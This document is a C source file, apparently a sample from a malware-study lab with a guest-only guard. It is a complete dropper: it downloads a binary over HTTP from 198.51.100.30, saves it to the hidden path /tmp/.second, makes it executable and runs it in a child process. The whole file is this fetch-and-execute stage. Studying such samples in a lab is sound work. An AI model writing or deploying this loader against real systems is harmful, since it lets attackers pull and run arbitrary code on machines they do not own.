/* Fetches a second program by HTTP, marks it executable and starts it. The laboratory decides what is served. */
#include "lab.h"
#include <sys/stat.h>
#include <sys/wait.h>

#define SECOND "/tmp/.second"
#define SECOND_BYTES_MAX (4 * 1024 * 1024)

int main(void)
{
	static char text[SECOND_BYTES_MAX + 1];
	size_t bytes = 0, n;
	only_in_a_guest();
	int fd = connect_to("198.51.100.30", 80);
	if (fd < 0)
		return 1;
	say(fd, "GET /bins/second HTTP/1.0\r\nHost: 198.51.100.30\r\nUser-Agent: fetch\r\n\r\n");
	while (bytes < SECOND_BYTES_MAX && (n = hear(fd, text + bytes, sizeof text - bytes)))
		bytes += n;
	char *body = strstr(text, "\r\n\r\n");
	if (!body)
		return 1;
	body += 4;
	int file = open(SECOND, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (file < 0 || write(file, body, text + bytes - body) < 0)
		return 1;
	close(file);
	chmod(SECOND, 0777);
	if (fork() == 0) {
		execl(SECOND, SECOND, (char *)NULL);
		_exit(127);
	}
	wait(NULL);
	return 0;
}
